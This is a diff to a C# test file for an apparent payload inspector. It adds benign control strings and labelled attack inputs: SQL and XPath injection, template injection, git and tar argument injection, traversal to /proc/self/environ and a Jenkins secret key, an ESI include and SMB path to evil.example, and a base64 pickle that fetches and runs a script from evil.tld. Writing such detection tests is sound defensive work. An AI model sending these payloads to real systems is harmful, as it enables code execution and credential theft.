@@ -187,6 +187,9 @@ public sealed class PayloadInspectorTests
         "975191 OR SKU-67230 OR JK-541-BLK-6",
         "script font stencil +navy -\"final sale\"",
         "${STATION_ID}_${DATE}.csv",
+        "{% if user.is_staff %}Admin{% endif %} {% url 'home' %}",
+        "Tom's or Jerry's",
+        "{!important} is not valid CSS",
         "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! peer react@\">=16.8 <19\" from x@1.0.0",
     ];
 
@@ -414,6 +417,21 @@ public sealed class PayloadInspectorTests
         { "x; id; whoami", InspectionCategory.Cmdi },
         { "${cmd}", InspectionCategory.Cmdi },
         { "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", InspectionCategory.Lfi },
+        { "admin' or string-length(//employee[1]/salary)>5 or 'a'='b", InspectionCategory.Sqli },
+        { "<esi:include src=\"http://evil.example/esi\"/>", InspectionCategory.Code },
+        { "<!--#exec cmd=\"id\"-->", InspectionCategory.Code },
+        { "{!join from=owner_id to=id fromIndex=users}password:*", InspectionCategory.Code },
+        { "{\"script\":{\"lang\":\"painless\",\"source\":\"params._source.password\"}}", InspectionCategory.Code },
+        { "-c core.pager='sh -c id' log", InspectionCategory.Cmdi },
+        { "--use-compress-program=sh -c 'id>/tmp/o'", InspectionCategory.Cmdi },
+        { "/./proc/./self/environ", InspectionCategory.Lfi },
+        { "/var/lib/jenkins/secrets/master.key", InspectionCategory.Lfi },
+        { "\\' OR 1=1-- -", InspectionCategory.Sqli },
+        { "gAJjcG9zaXgKc3lzdGVtCnEAWB8AAABjdXJsIC1zIGh0dHA6Ly9ldmlsLnRsZC9wLnNofHNocQGFcQJScQMu", InspectionCategory.Code },
+        { "{% debug %}", InspectionCategory.Ssti },
+        { "{%print(7*7)%}", InspectionCategory.Ssti },
+        { "smb://evil.example/share/inc.php", InspectionCategory.Rfi },
+        { "a@b.c\u560ASubject: you won", InspectionCategory.Crlf },
     };
 
     [Theory]
